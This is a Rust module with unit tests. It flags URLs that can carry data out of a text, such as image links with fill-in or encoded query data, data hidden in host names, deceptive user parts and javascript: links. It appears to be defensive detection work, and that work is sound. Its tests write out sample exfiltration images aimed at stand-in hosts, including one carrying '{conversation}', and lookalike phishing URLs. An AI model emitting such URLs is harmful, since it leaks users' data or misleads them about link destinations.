//! Addresses that carry data away: what a reader's program fetches by itself, or a click would send.
//!
//! It names shapes, not hosts: whether a host is trusted is the policy's to know.

use std::ops::Range;
use std::sync::LazyLock;

use memchr::memmem::Finder;

use crate::safe::part;

/// Longest address that is looked at.
const URL_MOST: usize = 2048;
/// Most addresses of one text.
const URLS_MOST: usize = 2000;
/// A value in a query that is this long may carry data.
const VALUE_LEAST: usize = 24;

static SCHEME: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"://"));
static LINK: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"]("));

/// Finds them: where, which shape, and how sure in thousandths.
#[must_use]
pub fn find(text: &str) -> Vec<(Range<usize>, &'static str, u16)> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    for at in SCHEME.find_iter(bytes).take(URLS_MOST) {
        let scheme = part(bytes, ..at)
            .iter()
            .rev()
            .take(12)
            .take_while(|byte| byte.is_ascii_alphanumeric())
            .count();
        let start = at - scheme;
        let length = part(bytes, at..)
            .iter()
            .take(URL_MOST)
            .take_while(|byte| !ends(byte))
            .count();
        let end = text.floor_char_boundary(at + length);
        if scheme == 0 || at + 3 >= end {
            continue;
        }
        let Some(rest) = text.get(at + 3..end) else {
            continue;
        };
        let fetched = is_image(text, start);
        if let Some((what, score)) = judge(rest, fetched) {
            found.push((start..end, what, score));
        }
    }
    let mut told = [false; 2];
    for at in LINK.find_iter(bytes) {
        let to = part(bytes, at + 2..);
        // An address without a scheme has the page's own.
        if let Some(rest) = to.strip_prefix(b"//")
            && is_image(text, at + 2)
        {
            let end = rest.iter().take(URL_MOST).take_while(|byte| !ends(byte)).count();
            let end = text.floor_char_boundary(at + 4 + end);
            if let Some((what, score)) = text.get(at + 4..end).and_then(|rest| judge(rest, true)) {
                found.push((at + 2..end, what, score));
            }
        }
        for ((start, what), told) in [
            (&b"javascript:"[..], "script_link"),
            (b"data:text/html", "data_link"),
        ]
        .into_iter()
        .zip(&mut told)
        {
            if !*told
                && to
                    .get(..start.len())
                    .is_some_and(|to| to.eq_ignore_ascii_case(start))
            {
                *told = true;
                found.push((at + 2..at + 13, what, 800));
            }
        }
    }
    found
}

/// What ends an address in a text.
const fn ends(byte: &u8) -> bool {
    byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'<' | b'>' | b')' | b'`' | b'\\' | b'|')
}

/// Elements whose addresses programs fetch, or send to, unasked.
const FETCHED: &[&str] = &[
    "<img", "<image", "<iframe", "<link", "<object", "<embed", "<video", "<audio", "<source", "<script",
    "<input", "<body", "<table", "<td", "<track", "<use", "<meta",
];

/// Whether the address at `start` is an image's, or another's that programs fetch unasked.
fn is_image(text: &str, start: usize) -> bool {
    let from = text.ceil_char_boundary(start.saturating_sub(200));
    let before = text.get(from..start).unwrap_or_default();
    let before = before.strip_suffix('<').unwrap_or(before);
    let markdown = before.ends_with("](")
        && before
            .rfind("![")
            .is_some_and(|at| before.get(at..).is_some_and(|part| !part.contains('\n')));
    let tag = before
        .rfind('<')
        .and_then(|at| before.get(at..))
        .is_some_and(|tag| {
            let tag = tag.to_ascii_lowercase();
            FETCHED.iter().any(|element| tag.starts_with(element)) && !tag.contains('>')
        });
    let style = || before.trim_end_matches([' ', '"', '\'']).ends_with("url(");
    markdown || tag || style() || is_referred(text, before)
}

/// Whether an address behind `before` is one that an image refers to by its label: `[label]: address`, `![text][label]`.
fn is_referred(text: &str, before: &str) -> bool {
    const LABEL_MOST: usize = 64;
    let line = before.rsplit('\n').next().unwrap_or_default().trim();
    let label = line.strip_prefix('[').and_then(|line| line.strip_suffix("]:"));
    label
        .filter(|label| !label.is_empty() && label.len() <= LABEL_MOST)
        .is_some_and(|label| {
            let named = format!("][{label}]");
            let uses = memchr::memmem::find_iter(text.as_bytes(), named.as_bytes()).take(16);
            let image = |at: usize| {
                let line = text.get(..at).unwrap_or_default();
                let line = line
                    .get(line.rfind('\n').map_or(0, |at| at + 1)..)
                    .unwrap_or_default();
                line.rfind('[')
                    .is_some_and(|open| line.get(..open).is_some_and(|line| line.ends_with('!')))
            };
            uses.into_iter().any(image) || text.contains(&format!("![{label}]"))
        })
}

fn judge(rest: &str, fetched: bool) -> Option<(&'static str, u16)> {
    let (place, query) = rest.split_at(rest.find(['?', '#']).unwrap_or(rest.len()));
    let (host, path) = place.split_at(place.find('/').unwrap_or(place.len()));
    let slot = |text: &str| {
        let lower = text.to_ascii_lowercase();
        ["{", "[", "%7b", "<", "$("]
            .iter()
            .any(|open| lower.contains(open))
            || ["your_", "secret_here", "data_here", "insert"]
                .iter()
                .any(|word| lower.contains(word))
    };
    // An address with a place to fill in asks its reader to fill it.
    if fetched && (slot(query) || slot(path)) {
        return Some(("image_with_slot", 900));
    }
    // In one label, or cut over several.
    let labels = host.split('.').filter(|label| label.len() >= 12 && dense(label));
    let (most, all) = labels.fold((0, 0), |(most, all), label| {
        (label.len().max(most), label.len() + all)
    });
    if most >= 32 || all >= 40 {
        return Some(("data_in_host_name", 700));
    }
    let carries = query
        .split(['&', '?', '#', ';'])
        .filter_map(|pair| pair.split_once('='))
        .any(|(_, value)| {
            value.len() >= VALUE_LEAST && (dense(value) || value.contains("%20") || value.contains('+'))
        });
    if fetched && (carries || query.len() >= 48) {
        return Some(("image_with_data", 700));
    }
    if fetched
        && path
            .split('/')
            .any(|part| part.len() >= 40 && dense(part) && !part.contains('.'))
    {
        return Some(("image_with_data", 450));
    }
    if host.rsplit_once('@').is_some_and(|(user, _)| is_misleading(user)) {
        return Some(("misleading_user_part", 600));
    }
    None
}

/// Whether the user of an address is spelled as a host, which is then taken for where it leads. A plain user and password
/// belong to how databases and queues are reached.
fn is_misleading(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or_default();
    let decoded = name
        .replace("%2e", ".")
        .replace("%2E", ".")
        .replace(['\u{3002}', '\u{ff0e}'], ".");
    let last = decoded.rsplit_once('.').map_or("", |(_, last)| last);
    last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic())
        || name.contains(|letter: char| !letter.is_ascii())
        || name.to_ascii_lowercase().contains("%2f")
}

/// Long, without spaces, and of encoded look.
fn dense(text: &str) -> bool {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    let fine = text
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%'));
    fine && digits >= 2 && crate::secrets::entropy(text) >= 3.0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes_that_carry_data() {
        let what = |text: &str| {
            find(text)
                .into_iter()
                .map(|(_, what, _)| what)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            what("![x](https://a.example/p.png?d={conversation})"),
            ["image_with_slot"]
        );
        assert_eq!(
            what("![x](https://a.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ)"),
            ["image_with_data"]
        );
        assert_eq!(
            what("<img alt='x' src=\"https://a.example/p?q=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ\">"),
            ["image_with_data"]
        );
        assert_eq!(
            what("http://5f4dcc3b5aa765d61d8327deb882cf99aa11.a.example/"),
            ["data_in_host_name"]
        );
        assert_eq!(
            what("see https://www.example.com@evil.example/login"),
            ["misleading_user_part"]
        );
        for text in [
            "https://paypal.com:443@evil.example/x",
            "https://www%2Eexample%2Ecom@evil.example/",
            "https://example.com%2Flogin@evil.example/",
            "https://p\u{430}ypal@evil.example/",
        ] {
            assert_eq!(what(text), ["misleading_user_part"], "{text}");
        }
        for text in [
            "postgres://user:password@localhost:5432/db",
            "redis://:password@localhost",
            "amqp://guest:guest@localhost:5672//",
            "https://a08dfca4f4762596cf13ecd2009d74a5@o1234.ingest.example/4501",
            "https://jane@bitbucket.example/team/repo.git",
        ] {
            assert_eq!(what(text), [""; 0], "{text}");
        }
        assert_eq!(what("[x](JavaScript:alert(1))"), ["script_link"]);
        let data = "d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ";
        for text in [
            format!("![x](//a.example/p.png?{data})"),
            format!("![x](<https://a.example/p.png?{data}>)"),
            format!("<body style=\"background:url('https://a.example/p.png?{data}')\">"),
            format!("<video poster='https://a.example/p.png?{data}'></video>"),
            format!("see ![the logo][1] here\n\n[1]: https://a.example/p.png?{data}\n"),
            format!("![logo]\n\n[logo]: <https://a.example/p.png?{data}>"),
        ] {
            assert_eq!(what(&text), ["image_with_data"], "{text}");
        }
        assert_eq!(
            what("https://c2vjcmv0igrhdge1.b2ygdghlihvzzxi9.mqaa7d3k2m4n.a.example/"),
            ["data_in_host_name"]
        );
        for text in [
            "https://example.com/search?q=rust",
            "![logo](https://example.com/logo.png)",
            "[a](https://example.com/a?b=c)",
            "x://",
            "://",
            "see [the docs][1]\n\n[1]: https://example.com/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI5MQ",
            "![x](//example.com/logo.png)",
            "https://d111111abcdef8.cloudfront.net/a.js",
            "https://my-app-a1b2c3d4.us-east1.run.app/",
        ] {
            assert_eq!(what(text), [""; 0], "{text}");
        }
    }
}
